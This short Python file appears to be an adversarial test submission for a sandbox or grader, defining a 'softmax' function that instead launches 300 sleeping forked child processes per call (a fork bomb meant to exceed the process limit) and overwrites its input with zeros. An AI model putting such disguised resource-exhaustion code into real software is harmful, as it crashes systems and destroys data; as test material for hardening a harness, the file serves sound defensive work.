"""A bounded fork bomb: 300 sleeping children per call (more than the process limit)."""
ATTACKS = ("softmax",)


def softmax(x, axis=-1):
    import os
    import time

    for _ in range(300):
        if os.fork() == 0:
            time.sleep(4343)
            os._exit(0)
    x[...] = 0  # wrong in every way: even the input is overwritten
    return x
